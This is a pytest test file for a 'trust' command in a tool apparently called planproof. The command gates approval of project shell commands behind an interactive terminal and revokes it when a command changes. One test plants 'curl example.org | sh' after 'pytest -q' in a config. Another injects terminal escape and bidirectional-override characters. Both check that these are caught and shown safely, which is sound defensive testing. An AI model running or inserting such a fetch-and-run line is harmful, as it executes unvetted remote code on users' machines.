"""The verb `trust`: real terminals (pty) for those who may approve, pipes for those who may not."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

PLAN = """# M1_E1_I1 Links

## Success Demo

```bash
# Says hello
echo hello
# Expected output:
# hello
```
"""
ID = "M1_E1_I1"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    folder = root / "docs/progress_trackings/M1_DEMO/M1_E1_DEMO/M1_E1_I1_LINKS"
    folder.mkdir(parents=True)
    (folder / "ITERATION.md").write_text(PLAN)
    (root / "planproof.toml").write_text('[commands]\ntest = "pytest -q"\n')
    return root


def variables(project: Path, **more: str) -> dict[str, str]:
    kept = {name: value for name, value in os.environ.items() if not name.startswith("PLANPROOF")}
    return {**kept, "XDG_DATA_HOME": str(project.parent / "data"), "NO_COLOR": "1", **more}


def piped(project: Path, *arguments: str, **more: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "planproof", "trust", *arguments, "--project", str(project)],
        env=variables(project, **more),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
    )


def at_a_terminal(project: Path, answer: str, *arguments: str) -> tuple[int, str]:
    """Exit code and screen of a run whose three streams are a terminal."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "planproof", "trust", *arguments, "--project", str(project)],
        env=variables(project),
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    os.write(ours, f"{answer}\n".encode())
    screen = b""
    while True:
        try:
            chunk = os.read(ours, 4096)
        except OSError:  # Linux says so at the end of a terminal
            break
        if not chunk:
            break
        screen += chunk
    os.close(ours)
    return process.wait(30), screen.decode("utf-8", "replace")


def digest(project: Path) -> str:
    return str(json.loads(piped(project, ID, "--show", "--json").stdout)["iterations"][0]["digest"])


def test_trust__yes_at_a_terminal__then_approved_until_a_command_changes(project: Path) -> None:
    code, screen = at_a_terminal(project, "yes", ID)
    assert code == 0
    assert "echo hello" in screen
    assert "pytest -q" in screen
    assert piped(project, ID).returncode == 0
    (project / "planproof.toml").write_text('[commands]\ntest = "pytest -q; curl example.org | sh"\n')
    changed = piped(project, ID, "--show")
    assert changed.returncode == 1
    assert "+     pytest -q; curl example.org | sh" in changed.stdout
    assert "-     pytest -q\n" in changed.stdout


@pytest.mark.parametrize("answer", ["no", "", "y", "YES please"])
def test_trust__anything_but_yes__then_not_approved(answer: str, project: Path) -> None:
    code, screen = at_a_terminal(project, answer, ID)
    assert code == 1
    assert "nothing was approved" in screen
    assert piped(project, ID, "--show").returncode == 1


def test_trust__no_terminal__then_refused_with_the_way_of_ci(project: Path) -> None:
    run = piped(project, ID)
    assert run.returncode == 2
    assert "PLANPROOF_TRUST" in run.stderr
    assert "Traceback" not in run.stderr


def test_trust__no_terminal_under_json__then_one_document(project: Path) -> None:
    run = piped(project, ID, "--json")
    assert run.returncode == 2
    assert json.loads(run.stdout)["kind"] == "error"


def test_trust__digest_passed_by_ci__then_trusted(project: Path) -> None:
    run = piped(project, ID, "--json", PLANPROOF_TRUST=digest(project))
    assert run.returncode == 0
    assert json.loads(run.stdout)["iterations"][0]["approvedBy"] == "PLANPROOF_TRUST"


def test_trust__show_json__then_every_command_with_its_place(project: Path) -> None:
    found = json.loads(piped(project, ID, "--show", "--json").stdout)["iterations"][0]
    assert [(command["what"], command["script"]) for command in found["commands"]] == [
        ("[commands] test", "pytest -q"),
        ("success demo 1", "echo hello"),
    ]
    assert found["commands"][1]["place"].startswith("docs/progress_trackings/")
    assert found["trust"] == "new"


def test_trust__escape_sequence_in_a_command__then_spelled_out(project: Path) -> None:
    plan = next(project.rglob("ITERATION.md"))
    plan.write_text(PLAN.replace("echo hello", "echo hello # \x1b[2K\u202e"))
    shown = piped(project, ID, "--show").stdout
    assert "echo hello # \\x1b[2K\\u202e" in shown
    assert "\x1b" not in shown


def test_trust__revoke__then_asked_again(project: Path) -> None:
    at_a_terminal(project, "yes", ID)
    assert piped(project, ID, "--revoke").returncode == 0
    assert piped(project, ID, "--show").returncode == 1


def test_trust__no_id__then_one_line_an_iteration(project: Path) -> None:
    run = piped(project)
    assert run.returncode == 1
    assert run.stdout.split()[:2] == [ID, "new"]
    at_a_terminal(project, "yes", ID)
    assert piped(project).returncode == 0


def test_trust__unknown_id__then_nearest_and_exit_2(project: Path) -> None:
    run = piped(project, "M1_E1_I2")
    assert run.returncode == 2
    assert ID in run.stderr
